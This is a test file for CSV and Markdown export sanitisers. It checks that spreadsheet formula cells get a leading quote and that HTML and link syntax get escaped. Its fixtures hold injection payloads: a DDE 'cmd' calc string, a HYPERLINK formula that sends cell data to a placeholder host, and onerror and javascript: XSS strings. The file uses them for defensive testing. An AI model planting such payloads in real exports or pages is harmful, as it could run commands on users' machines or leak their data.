import { parse } from 'csv-parse/sync';
import { markdownCell, neutraliseCsvCell, toSafeCsv } from './export-text';

describe('neutraliseCsvCell', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '=HYPERLINK("http://x/?"&A1,"y")'])('prefixes %j with a single quote', (cell) => {
    expect(neutraliseCsvCell(cell)).toBe(`'${cell}`);
  });

  it.each(['Stripe', '1+1', 'a=b', " '=1", '', 'NOT RECORDED'])('leaves %j as it is', (cell) => {
    expect(neutraliseCsvCell(cell)).toBe(cell);
  });
});

describe('toSafeCsv', () => {
  it('quotes every cell and reads back as the neutralised text', () => {
    const csv = toSafeCsv([['=cmd|"/C calc"!A0', 'plain, with comma'], ['line\r\nbreak', '\t@x']]);
    expect(csv).toBe('\uFEFF"\'=cmd|""/C calc""!A0","plain, with comma"\r\n"line\r\nbreak","\'\t@x"\r\n');
    expect(parse(csv, { bom: true })).toEqual([["'=cmd|\"/C calc\"!A0", 'plain, with comma'], ['line\r\nbreak', "'\t@x"]]);
  });
});

describe('markdownCell', () => {
  it('escapes HTML, Markdown link and table punctuation, and turns every line break into <br>', () => {
    expect(markdownCell('<img src=x onerror="alert(1)"> & [x](javascript:alert(1)) | a\\b')).toBe(
      '&lt;img src=x onerror="alert(1)"&gt; &amp; \\[x\\](javascript:alert(1)) \\| a\\\\b',
    );
    expect(markdownCell('a\r\nb\nc\rd\u2028e\u2029f\u0085g\vh\fi')).toBe('a<br>b<br>c<br>d<br>e<br>f<br>g<br>h<br>i');
  });
});
